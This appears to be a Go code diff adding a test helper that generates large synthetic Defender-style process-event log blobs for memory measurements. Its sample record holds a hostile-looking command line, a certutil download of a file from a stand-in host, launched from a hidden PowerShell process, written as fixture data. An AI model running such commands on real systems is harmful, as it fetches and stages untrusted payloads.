@@ -381,3 +381,40 @@ func writeXML(w http.ResponseWriter, v any) {
 	_, _ = w.Write([]byte(xml.Header))
 	_, _ = w.Write(raw)
 }
+
+// PutLargeTableBlob adds to the simulated storage account a blob of about size bytes of
+// DeviceProcessEvents records, under its own tenant folder of table's container for the hour
+// of at, generated as it is read; it returns how many records the blob holds. For
+// measurements of readers, which must not need memory in proportion to a blob.
+func (s *Server) PutLargeTableBlob(table string, at time.Time, size int64) (int64, error) {
+	template, err := json.Marshal(map[string]any{
+		"time": "2024-05-02T10:00:01.0000000Z", "tenantId": s.tenantID, "operationName": "Publish",
+		"category": "AdvancedHunting-DeviceProcessEvents", "Tenant": "DefaultTenant",
+		"properties": map[string]any{
+			"Timestamp": "2024-05-02T09:59:58.1234567Z", "ActionType": "ProcessCreated",
+			"DeviceId": "4a5c3b1e8d2f7a6b9c0d1e2f3a4b5c6d7e8f9a0b", "DeviceName": "ws-0042.contoso.com",
+			"FileName": "certutil.exe", "FolderPath": `C:\Windows\System32\certutil.exe`,
+			"SHA1": "a3b1c2d4e5f60718293a4b5c6d7e8f9012345678", "SHA256": "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0",
+			"ProcessCommandLine": `certutil.exe -urlcache -f http://downloads.example.net/a.bin a.bin`,
+			"ProcessId":          4242, "ProcessCreationTime": "2024-05-02T09:59:58.0000000Z",
+			"AccountDomain": "contoso", "AccountName": "jdoe", "AccountSid": "S-1-5-21-1004336348-1177238915-682003330-1001",
+			"InitiatingProcessFileName": "powershell.exe", "InitiatingProcessId": 3100,
+			"InitiatingProcessCommandLine": `powershell.exe -nop -w hidden`, "InitiatingProcessParentFileName": "explorer.exe",
+			"MachineGroup": "Workstations", "ReportId": int64(100000000000),
+		},
+	})
+	if err != nil {
+		return 0, err
+	}
+	template = append(template, '\r', '\n')
+	// Every record gets its own ReportId, of one width, so every line has one length.
+	mark := strings.Index(string(template), "100000000000")
+	lineLen := int64(len(template))
+	n := max(1, size/lineLen)
+	line := func(i int64) []byte {
+		out := append([]byte(nil), template...)
+		copy(out[mark:], strconv.FormatInt(100000000000+i, 10))
+		return out
+	}
+	return n, s.PutGeneratedBlob(StorageContainer(table), StorageBlobName("large-"+s.tenantID, at), n, lineLen, line)
+}
